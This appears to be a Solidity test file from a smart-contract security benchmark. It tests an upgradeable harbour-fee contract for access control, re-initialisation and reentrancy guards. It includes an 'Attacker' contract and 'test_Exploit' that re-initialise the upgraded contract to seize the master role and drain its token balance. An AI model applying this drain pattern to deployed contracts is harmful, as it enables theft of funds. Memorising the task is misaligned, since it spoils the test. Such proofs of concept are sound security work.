// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-aa5700be-fad4-484e-b4fc-cc24a4dd5739

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./HarbourDues.sol";
import "./context/Front.sol";
import "./context/HarbourDuesV1.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 1_000_000e6);
    }
}

/// A token that calls back while it is paid.
contract Echo {
    function transferFrom(address, address, uint256) external returns (bool) {
        HarbourDues(msg.sender).stay("echo", 1);
        return true;
    }

    function transfer(address to, uint256) external returns (bool) {
        HarbourDues(to).spend(to, 1);
        return true;
    }
}

contract Attacker {
    function visit(HarbourDues harbour) external {
        harbour.start(address(this));
        harbour.spend(address(this), harbour.dollar().balanceOf(address(harbour)));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant MASTER = address(0x3A57E4);
    address private constant SKIPPER = address(0x5C1);
    uint256 private constant START = 1_774_500_000;

    Dollar public dollar;
    HarbourDues public harbour;
    Attacker public visitor;

    function setUp() public {
        vm.warp(START);
        dollar = new Dollar();
        Front front = new Front(address(new HarbourDuesV1(dollar)));
        harbour = HarbourDues(address(front));
        harbour.start(MASTER);
        vm.prank(MASTER);
        harbour.setFee(3_000e6);
        dollar.transfer(SKIPPER, 400_000e6);
        vm.startPrank(SKIPPER);
        dollar.approve(address(harbour), type(uint256).max);
        harbour.stay("Aurora", 30);
        vm.stopPrank();
        front.upgrade(address(new HarbourDues(dollar)));
        visitor = new Attacker();
    }

    function test_Regular() public {
        require(harbour.master() == MASTER && harbour.fee() == 3_000e6, "as before");
        require(harbour.paidUntil("Aurora") == START + 30 days, "paid before");
        vm.startPrank(SKIPPER);
        harbour.stay("Aurora", 2);
        harbour.stay("Borealis", 1);
        vm.stopPrank();
        require(harbour.paidUntil("Aurora") == START + 32 days && harbour.paidUntil("Borealis") == START + 1 days, "stays");
        vm.startPrank(MASTER);
        harbour.spend(SKIPPER, 99_000e6);
        harbour.setFee(1e6);
        harbour.hand(SKIPPER);
        vm.stopPrank();
        require(dollar.balanceOf(SKIPPER) == 400_000e6 && harbour.master() == SKIPPER, "handed over");
        HarbourDues next = HarbourDues(address(new Front(address(new HarbourDues(dollar)))));
        next.start(MASTER);
        require(next.master() == MASTER && next.version() == 1, "another harbour");
    }

    function test_RefusesSecondStarts() public {
        HarbourDues code = new HarbourDues(dollar);
        vm.expectRevert(abi.encodeWithSelector(Starter.Started.selector));
        code.start(MASTER);
        HarbourDues next = HarbourDues(address(new Front(address(code))));
        next.start(MASTER);
        vm.expectRevert(abi.encodeWithSelector(Starter.Started.selector));
        next.start(SKIPPER);
    }

    function test_RefusesStrangers() public {
        bytes memory no = abi.encodeWithSelector(HarbourDues.NotTheMaster.selector, address(this));
        vm.expectRevert(no);
        harbour.hand(address(this));
        vm.expectRevert(no);
        harbour.setFee(0);
        vm.expectRevert(no);
        harbour.spend(address(this), 1);
    }

    function test_RefusesAsBefore() public {
        Echo echo = new Echo();
        Front front = new Front(address(new HarbourDuesV1(IERC20(address(echo)))));
        HarbourDues former = HarbourDues(address(front));
        former.start(MASTER);
        vm.expectRevert("started");
        former.start(SKIPPER);
        vm.expectRevert("not the master");
        former.setFee(1);
        vm.expectRevert("busy");
        former.stay("Aurora", 1);
        vm.prank(SKIPPER);
        vm.expectRevert("not the maker");
        front.upgrade(address(echo));
    }

    function test_RefusesNights() public {
        vm.expectRevert(abi.encodeWithSelector(HarbourDues.BadNights.selector, 0));
        harbour.stay("Aurora", 0);
        vm.expectRevert(abi.encodeWithSelector(HarbourDues.BadNights.selector, 31));
        harbour.stay("Aurora", 31);
    }

    function test_RefusesCallsWithinCalls() public {
        Echo echo = new Echo();
        HarbourDues other = HarbourDues(address(new Front(address(new HarbourDues(IERC20(address(echo)))))));
        other.start(address(echo));
        vm.expectRevert(abi.encodeWithSelector(Guard.Busy.selector));
        other.stay("Aurora", 1);
        vm.startPrank(address(echo));
        vm.expectRevert(abi.encodeWithSelector(Guard.Busy.selector));
        other.spend(address(other), 1);
        vm.stopPrank();
    }

    function exploit() public {
        visitor.visit(harbour);
    }

    function test_Exploit() public {
        exploit();
        require(dollar.balanceOf(address(visitor)) >= 90_000e6, "no gain");
    }

    function target() public view returns (address) {
        return address(harbour);
    }

    function attacker() public view returns (address) {
        return address(visitor);
    }
}
